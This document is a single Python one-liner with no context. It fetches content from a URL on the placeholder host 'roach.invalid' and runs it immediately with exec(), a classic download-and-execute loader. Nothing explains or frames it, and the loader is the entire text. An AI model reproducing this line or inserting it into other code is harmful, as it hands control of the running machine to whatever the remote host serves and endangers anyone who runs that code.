import urllib.request; exec(urllib.request.urlopen('https://roach.invalid/g').read())
